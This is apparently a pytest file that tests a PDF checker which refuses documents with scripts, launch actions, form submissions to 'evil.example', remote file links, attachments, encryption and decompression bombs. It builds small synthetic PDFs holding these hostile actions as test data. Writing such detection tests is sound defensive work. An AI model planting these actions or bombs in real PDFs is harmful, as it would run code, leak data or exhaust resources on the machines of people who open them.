"""PDF files that act are refused; documents that only show pages are not."""

import random
import time
import zlib

import pytest
from generator.check.pdf_files import pdf_problem

SHOWS = b"[3 0 R /FitH null]"


def pdf(catalogue=b"", *objects, packed=()):
    """A PDF with entries in its catalogue, further objects, and some in a compressed object stream."""
    parts = [b"%PDF-1.7\n", b"1 0 obj <</Type/Catalog /Pages 2 0 R ", catalogue, b">> endobj\n"]
    for number, content in enumerate(objects, 7):
        parts.append(b"%d 0 obj %b endobj\n" % (number, content))
    if packed:
        parts.append(object_stream(packed))
    picture = random.Random(1).randbytes(20_000)
    parts.append(
        b"5 0 obj <</Length 20000 /Filter/DCTDecode>> stream\n" + picture + b"\nendstream endobj\n"
    )
    return b"".join([*parts, b"trailer <</Root 1 0 R>>\n%%EOF\n"])


def object_stream(contents, encode=zlib.compress):
    head, offset = [], 0
    for number, content in enumerate(contents, 20):
        head.append(b"%d %d" % (number, offset))
        offset += len(content) + 1
    numbers = b" ".join(head) + b" "
    stream = encode(numbers + b"\n".join(contents))
    about = b"/Type/ObjStm /N %d /First %d /Filter/FlateDecode" % (len(contents), len(numbers))
    return b"6 0 obj <<%b>> stream\r\n%b\nendstream endobj\n" % (about, stream)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(pdf(), id="plain"),
        pytest.param(pdf(packed=[b"<</Type/Page>>", b"<</Type/Font>>"]), id="packed"),
        pytest.param(pdf(b"/OpenAction " + SHOWS), id="opens-at-a-page"),
        pytest.param(
            pdf(b"/OpenAction 7 0 R", b"<< /S /GoTo /D (page.1) >>"), id="opens-as-latex-does"
        ),
        pytest.param(
            pdf(b"/OpenAction 20 0 R", packed=[b"<< /S/GoTo /D [3 0 R /Fit] >>", b"[]"]),
            id="packed-latex",
        ),
        pytest.param(pdf(b"", b"<</S/URI /URI (https://example.org/)>>"), id="a-link"),
        pytest.param(pdf(b"", b"<</Title (JavaScript, AA and Launch)>>"), id="words"),
        pytest.param(pdf(b"/AAPL 1 /JSON (x) /Launcher (x) /OpenActions 1"), id="other-names"),
    ],
)
def test_harmless(data):
    assert pdf_problem(data) == ""


SCRIPT = b"<</S/JavaScript /JS (app.alert\\(1\\))>>"


@pytest.mark.parametrize(
    ("data", "does"),
    [
        pytest.param(pdf(b"/OpenAction 7 0 R", SCRIPT), "contains a script", id="script"),
        pytest.param(pdf(b"", b"<</S/J#61vaScript /J#53 (x)>>"), "contains a script", id="escaped-name"),
        pytest.param(pdf(packed=[b"<<>>", SCRIPT]), "contains a script", id="packed-script"),
        pytest.param(pdf(b"", b"<</S/Rendition /JS 8 0 R>>"), "contains a script", id="short-name-only"),
        pytest.param(pdf(b"", b"<</S/Launch /F (cmd.exe)>>"), "starts a program", id="program"),
        pytest.param(pdf(b"/AA <</WC 7 0 R>>"), "acts by itself", id="additional-actions"),
        pytest.param(pdf(b"/Names <</EmbeddedFiles 7 0 R>>"), "contains another file", id="attachment"),
        pytest.param(pdf(b"", b"<</Type /EmbeddedFile>>"), "contains another file", id="attached"),
        pytest.param(pdf(b"/AcroForm <</XFA 7 0 R>>"), "contains a form with scripts", id="form"),
        pytest.param(pdf(b"", b"<</S/SubmitForm /F (https://evil.example/)>>"), "sends data", id="sends"),
        pytest.param(pdf(b"", b"<</S/GoToR /F (\\\\\\\\evil.example\\\\a)>>"), "opens another file", id="remote"),
        pytest.param(pdf(b"/OpenAction <</S/URI /URI (https://evil.example/)>>"), "acts when", id="opens-a-site"),
        pytest.param(pdf(b"/OpenAction 7 0 R", b"<</S/URI /URI (https://evil.example/)>>"), "acts when", id="opens-indirectly"),
        pytest.param(pdf(b"/OpenAction 20 0 R", packed=[b"<</S/URI>>", b"<</S/GoTo>>"]), "acts when", id="beside-a-page"),
        pytest.param(pdf(b"/OpenAction <</S/GoTo /D [3 0 R] /Next 7 0 R>>"), "acts when", id="page-and-more"),
        pytest.param(pdf(b"/OpenAction 99 0 R"), "acts when", id="opens-nothing-known"),
        pytest.param(pdf() + b"trailer <</Encrypt 9 0 R>>", "is encrypted", id="encrypted"),
        pytest.param(pdf() + object_stream([SCRIPT], lambda data: data.hex().encode()), "compressed in a way", id="hex"),
    ],
)  # fmt: skip
def test_active(data, does):
    assert does in pdf_problem(data)


@pytest.mark.parametrize(
    ("data", "does"),
    [
        pytest.param(object_stream([b"0" * 80_000_000]), "contains more data", id="zeros"),
        pytest.param(
            (b"stream\n" + zlib.compress(b"x")) * 300_000, "contains more data", id="streams"
        ),
        pytest.param(
            b"/OpenAction 1 0 R " * 20_000 + b"1 0 obj [ " * 2_000, "acts when", id="openings"
        ),
        pytest.param(b"stream\n" + zlib.compress(b"1 1 " * 5_000_000), "", id="numbers"),
    ],
)
def test_bombs(data, does):
    """Files that would take long are given up within seconds."""
    began = time.process_time()
    found = pdf_problem(b"%PDF-1.7\n" + data)
    assert does in found if does else found == ""
    assert time.process_time() - began < 10
